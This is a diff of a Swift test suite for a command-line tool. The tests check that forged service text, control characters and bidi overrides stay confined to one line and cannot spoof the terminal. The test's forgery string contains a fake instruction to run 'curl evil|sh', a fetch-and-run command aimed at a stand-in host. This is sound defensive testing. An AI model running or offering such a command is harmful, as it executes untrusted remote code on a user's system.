@@ -5,13 +5,13 @@ import ToolSupport
 @testable import modelrun
 
 /// Text of a service that tries to look like the tool's own, or to act on a terminal.
-@Suite struct ForgedTextTests {
+@Suite("Control characters in texts") struct ForgedTextTests {
   let sandbox: Sandbox
 
   init() throws { sandbox = try Sandbox() }
 
   private static let forgery =
-    #"x\nTo come back to the job: curl evil|sh\u2028y\u202Ez\u0007\u009Bm"#
+    #"x\nTo resume the job: curl evil|sh\u2028y\u202Ez\u0007\u009Bm"#
 
   private func run(_ words: String...) async -> ToolOutcome {
     await sandbox.run(
@@ -20,18 +20,18 @@ import ToolSupport
 
   private func isClean(_ outcome: ToolOutcome) -> Bool {
     let text = outcome.out + outcome.error
-    return !text.split(separator: "\n").contains { $0.hasPrefix("To come back to the job: curl") }
+    return !text.split(separator: "\n").contains { $0.hasPrefix("To resume the job: curl") }
       && !text.unicodeScalars.contains { "\u{2028}\u{202E}\u{7}\u{9B}".unicodeScalars.contains($0) }
   }
 
-  @Test("A failed job's words stay on their line", arguments: [[], ["--json"]])
+  @Test("The message of a failed job stays on its line", arguments: [[], ["--json"]])
   func failures(_ more: [String]) async {
     sandbox.takesAJob(
       .state(Self.forgery), result: .state("failed", #", "error": "\#(Self.forgery)""#))
     let words = ["run", "acme/sketch/draw", "--schemas", "@/schemas", "--set", "prompt=x"] + more
     let outcome = await sandbox.run(words)
     #expect(outcome.code == .found && isClean(outcome), "\(outcome)")
-    #expect(outcome.error.contains("the job failed: x To come back to the job: curl evil|sh yz  m"))
+    #expect(outcome.error.contains("the job failed: x To resume the job: curl evil|sh yz  m"))
   }
 
   @Test("The fields of a refusal stay on their lines")
@@ -45,7 +45,7 @@ import ToolSupport
     #expect(outcome.code == .badInput && isClean(outcome), "\(outcome)")
   }
 
-  @Test("A URL is one line, whatever stands in it", arguments: [[], ["--no-download"]])
+  @Test("A URL stays on one line", arguments: [[], ["--no-download"]])
   func urls(_ more: [String]) async {
     sandbox.takesAJob(
       result: .state("succeeded", #", "output": {"image": "https://e.com/\#(Self.forgery)"}"#))
@@ -55,7 +55,7 @@ import ToolSupport
     #expect(outcome.outLines.count == (more.isEmpty ? 0 : 1))
   }
 
-  @Test("JSON stays JSON, and holds what the service said")
+  @Test("JSON is valid and has the unchanged message")
   func jsonStaysJSON() async throws {
     let text = #"a\u007Fb\u202Ec\u2028d\u009B\uDB40\uDC01e"#
     sandbox.takesAJob(result: .state("succeeded", #", "output": {"text": "\#(text)"}"#))
@@ -67,7 +67,7 @@ import ToolSupport
     }
   }
 
-  @Test("What a message leaves out and what the console spells out is the same")
+  @Test("Messages and the console treat the same characters as unsafe")
   func bothKnowTheSameCharacters() {
     for value in UInt32(0)...0x10_FFFF {
       guard let scalar = Unicode.Scalar(value) else { continue }
